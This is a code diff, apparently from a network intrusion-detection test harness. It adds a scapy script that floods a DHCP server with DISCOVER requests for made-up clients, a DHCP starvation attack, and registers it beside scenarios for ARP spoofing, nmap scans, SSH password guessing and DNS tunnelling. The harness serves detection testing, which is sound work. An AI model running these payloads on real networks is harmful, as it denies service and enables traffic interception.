@@ -76,6 +76,24 @@ sendp(Ether(src=me, dst=victim_mac) / ARP(op=2, hwsrc=me, psrc=gateway, hwdst=vi
 print(me)
 """
 
+DHCP_REQUESTS = 100
+DHCP_STARVE = r"""
+import os, sys
+from scapy.arch import get_if_hwaddr
+from scapy.layers.dhcp import BOOTP, DHCP
+from scapy.layers.inet import IP, UDP
+from scapy.layers.l2 import Ether
+from scapy.sendrecv import sendp
+count = int(sys.argv[1])
+me = get_if_hwaddr("eth0")
+# dhcpstarv's way: its own source address, a made-up client address in each DISCOVER
+frames = [Ether(src=me, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
+          / UDP(sport=68, dport=67) / BOOTP(chaddr=b"\x02" + os.urandom(5), xid=k)
+          / DHCP(options=[("message-type", "discover"), "end"]) for k in range(count)]
+sendp(frames, iface="eth0", inter=0.01, verbose=False)
+print(me)
+"""
+
 
 TITLES = {
     "port_scan": "a guest scans HQ's file server with nmap (SYN scan)",
@@ -86,6 +104,7 @@ TITLES = {
     "stealth_scan": "a staff laptop Xmas-scans 100 ports of the file server (nmap -sX)",
     "ack_scan": "a staff laptop ACK-scans 100 ports of the DNS server (nmap -sA)",
     "fragmented_scan": "a voice phone SYN-scans the DNS server in 8-byte IP fragments (nmap -f)",
+    "dhcp_starvation": f"a guest asks for {DHCP_REQUESTS} DHCP leases for made-up clients (dhcpstarv style)",
     "ssh_guessing": f"a guest guesses SSH passwords on HQ's DNS server ({SSH_GUESSES} sessions)",
     "arp_spoof": "a voice phone poisons its neighbour's ARP cache (the gateway is-at me)",
     "dns_tunnel": f"a guest tunnels data out through DNS ({DNS_QUERIES} queries)",
@@ -317,6 +336,15 @@ def plan_attacks(
             (cmd(voice2, "nmap", "-n", "-Pn", "-sS", "-f", "-p", "1-100", "--max-rate", "1000",
                  "--max-retries", "0", dns1),),
             expect("tiny_fragment", at(voice2), dst=dns1),
+        ),
+        Attack(
+            "dhcp_starvation",
+            f"{DHCP_REQUESTS} DHCPDISCOVERs in one second, each for a made-up client address, "
+            "sent with scapy from the guest's own hardware address (what dhcpstarv sends to "
+            "empty a DHCP server's pool).",
+            (cmd(guest2, py, "-c", DHCP_STARVE, str(DHCP_REQUESTS)),),
+            expect("dhcp_starvation", mac(state, guest2)),
+            shown=f"python3 -c <scapy: {DHCP_REQUESTS} DHCPDISCOVERs, made-up client addresses>",
         ),
         Attack(
             "ssh_guessing",
